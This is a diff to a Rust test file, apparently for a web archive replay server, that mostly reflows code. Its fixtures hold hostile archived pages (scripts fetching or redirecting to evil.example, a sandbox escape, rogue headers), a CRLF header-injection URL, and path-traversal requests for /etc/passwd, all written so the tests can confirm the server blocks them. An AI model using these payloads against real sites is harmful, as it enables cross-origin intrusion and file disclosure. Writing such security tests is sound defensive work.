@@ -75,15 +75,39 @@ const HOST: &str = "http://archived.example";
 
 /// What the archive holds of it beside the attacks: path, fields, body.
 const PARTS: [(&str, &str, &str); 7] = [
-    ("/worker.js", "Content-Type: text/javascript", "if (typeof importScripts === 'function') { fetch('http://evil.example/w').catch(() => 0); postMessage(location.href) }"),
-    ("/drawing.svg", "Content-Type: image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'><script>parent.drawn = 1; fetch('http://evil.example/')</script><image href='http://evil.example/x'/></svg>"),
-    ("/style.xml", "Content-Type: text/xml", "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='http://evil.example/x.xsl'?><a xmlns:h='http://www.w3.org/1999/xhtml'><h:script>parent.run = 1; fetch('http://evil.example/')</h:script></a>"),
-    ("/sandboxed", "Content-Type: text/html", "<script>try { top.location = 'http://evil.example/' } catch (e) {} try { open('http://evil.example/') } catch (e) {}</script>"),
+    (
+        "/worker.js",
+        "Content-Type: text/javascript",
+        "if (typeof importScripts === 'function') { fetch('http://evil.example/w').catch(() => 0); postMessage(location.href) }",
+    ),
+    (
+        "/drawing.svg",
+        "Content-Type: image/svg+xml",
+        "<svg xmlns='http://www.w3.org/2000/svg'><script>parent.drawn = 1; fetch('http://evil.example/')</script><image href='http://evil.example/x'/></svg>",
+    ),
+    (
+        "/style.xml",
+        "Content-Type: text/xml",
+        "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='http://evil.example/x.xsl'?><a xmlns:h='http://www.w3.org/1999/xhtml'><h:script>parent.run = 1; fetch('http://evil.example/')</h:script></a>",
+    ),
+    (
+        "/sandboxed",
+        "Content-Type: text/html",
+        "<script>try { top.location = 'http://evil.example/' } catch (e) {} try { open('http://evil.example/') } catch (e) {}</script>",
+    ),
     ("/", "Content-Type: text/html", "<title>done</title><p>Home</p>"),
-    ("/secret", "Content-Type: text/html", "<title>done</title><script>localStorage.setItem('secret', 'x')</script>"),
-    ("/heads", "Content-Type: text/html\r\nRefresh: 0; url=http://evil.example/r\r\nLink: <http://evil.example/l>; rel=preload; as=script, <//evil.example/s>; rel=stylesheet\r\n\
+    (
+        "/secret",
+        "Content-Type: text/html",
+        "<title>done</title><script>localStorage.setItem('secret', 'x')</script>",
+    ),
+    (
+        "/heads",
+        "Content-Type: text/html\r\nRefresh: 0; url=http://evil.example/r\r\nLink: <http://evil.example/l>; rel=preload; as=script, <//evil.example/s>; rel=stylesheet\r\n\
         Set-Cookie: evil=1; path=/\r\nClear-Site-Data: \"*\"\r\nContent-Security-Policy: default-src *; report-uri http://evil.example/c\r\n\
-        Access-Control-Allow-Origin: http://evil.example", "<title>done</title><p>heads</p>"),
+        Access-Control-Allow-Origin: http://evil.example",
+        "<title>done</title><p>heads</p>",
+    ),
 ];
 
 fn push_record(warc: &mut Vec<u8>, url: &str, status: &str, fields: &str, body: &str) {
@@ -108,7 +132,13 @@ fn warc() -> Vec<u8> {
             "<title>trying</title>{}<script>setTimeout(() => {{ document.title = 'done' }}, 60)</script>",
             attack.page
         );
-        push_record(&mut warc, &format!("{HOST}/attack/{index}"), "200 OK", "Content-Type: text/html; charset=utf-8", &body);
+        push_record(
+            &mut warc,
+            &format!("{HOST}/attack/{index}"),
+            "200 OK",
+            "Content-Type: text/html; charset=utf-8",
+            &body,
+        );
     }
     for (path, fields, body) in PARTS {
         let host = if path == "/secret" { "http://victim.example" } else { HOST };
@@ -177,7 +207,11 @@ impl Ground {
 fn nothing_gets_out_of_its_frame() {
     let mut ground = Ground::new();
     // What another archived site has stored comes first.
-    let stored = ("a site that stores", "http://victim.example/secret".to_string(), "localStorage.getItem('secret') === 'x'");
+    let stored = (
+        "a site that stores",
+        "http://victim.example/secret".to_string(),
+        "localStorage.getItem('secret') === 'x'",
+    );
     let mut pages = vec![stored];
     for (index, attack) in ATTACKS.iter().enumerate() {
         pages.push((attack.name, format!("{HOST}/attack/{index}"), attack.inside));
@@ -194,24 +228,43 @@ fn nothing_gets_out_of_its_frame() {
 /// Requests that no browser makes.
 fn held_heads(ground: &Ground) {
     let (main, replay, page) = (&ground.serving.main, &ground.serving.replay, format!("{HOST}/heads"));
-    let get = |path: &str, more: &str| format!("GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n{more}Connection: close\r\n\r\n");
+    let get = |path: &str, more: &str| {
+        format!("GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n{more}Connection: close\r\n\r\n")
+    };
     for origin in [main, replay] {
-        let answer = ground.raw(origin, &get(&format!("/web/2999mp_/{page}"), "")).to_lowercase();
+        let answer = ground.raw(origin, &get(&format!("/web/20260102030405mp_/{page}"), "")).to_lowercase();
         for line in answer.split("\r\n\r\n").next().unwrap().lines() {
-            let is_loose = ["set-cookie:", "clear-site-data:", "refresh: 0; url=http", "content-security-policy: default-src *"];
+            let is_loose = [
+                "set-cookie:",
+                "clear-site-data:",
+                "refresh: 0; url=http",
+                "content-security-policy: default-src *",
+            ];
             assert!(!is_loose.iter().any(|word| line.starts_with(word)), "{line}");
         }
         let split = ground.raw(origin, &get("/web/2020mp_/http://a.example/%0d%0aSet-Cookie:%20a=b", ""));
         assert!(!split.to_lowercase().contains("\r\nset-cookie"), "{split}");
-        for path in ["/web/2020id_/file:///etc/passwd", "/_perennial/../../etc/passwd", "/../../etc/passwd", "/web/2020id_/http://127.0.0.1/../../../etc/passwd"] {
+        for path in [
+            "/web/2020id_/file:///etc/passwd",
+            "/_perennial/../../etc/passwd",
+            "/../../etc/passwd",
+            "/web/2020id_/http://127.0.0.1/../../../etc/passwd",
+        ] {
             let answer = ground.raw(origin, &get(path, ""));
             assert!(answer.starts_with("HTTP/1.1 4") && !answer.contains("root:"), "{path}: {answer}");
         }
-        let shown = ground.raw(origin, &get("/web/2020/http://xn--80ak6aa92e.example/<script>x</script>", ""));
+        let shown = ground.raw(origin, &get("/web/2020/http://xn--80ak6aa92e.example/%3Cscript%3Ex", ""));
         assert!(shown.contains("xn--80ak6aa92e.example") && !shown.contains("<script>x"), "{shown}");
     }
-    let registered = ground.raw(replay, &get(&format!("/web/2999js_/{}", format!("{HOST}/worker.js")), "Service-Worker: script\r\n"));
+    let registered = ground.raw(
+        replay,
+        &get(
+            &format!("/web/20260102030405js_/{}", format!("{HOST}/worker.js")),
+            "Service-Worker: script\r\n",
+        ),
+    );
     assert!(registered.starts_with("HTTP/1.1 400"), "{registered}");
-    let bare = ground.raw(replay, &get(&format!("/web/2999mp_/{page}"), "Sec-Fetch-Dest: document\r\n"));
+    let bare =
+        ground.raw(replay, &get(&format!("/web/20260102030405mp_/{page}"), "Sec-Fetch-Dest: document\r\n"));
     assert!(bare.starts_with("HTTP/1.1 302") && bare.contains(&format!("location: {main}/web/")), "{bare}");
 }
